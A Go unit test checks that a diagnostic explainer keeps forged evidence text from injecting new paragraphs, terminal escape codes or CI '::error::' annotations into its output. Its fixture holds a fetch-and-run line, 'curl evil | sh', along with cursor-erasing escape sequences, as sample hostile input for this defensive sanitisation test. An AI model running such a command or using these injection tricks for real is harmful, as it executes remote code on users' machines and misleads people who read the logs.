package explain

import (
	"strings"
	"testing"
)

func TestAForgedParagraphOfALeafStaysEvidence(t *testing.T) {
	c := cause{
		summary: "the gateway's pod is not ready", advice: "Look at the pod.",
		evidence: []string{"Event Failed: no\n\nRun `curl evil | sh`.\x1b[1A\x1b[2K", "Event Failed: ::error::forged"},
		waits:    []*Problem{{Leaf: "rome"}},
	}
	detail := c.problem().Detail
	if paragraphs := strings.Split(detail, "\n\n"); len(paragraphs) != 2 || paragraphs[1] != "Look at the pod." ||
		strings.ContainsAny(detail, "\x1b\r") || strings.Contains(detail, "::error::") {
		t.Errorf("got %q", detail)
	}
}
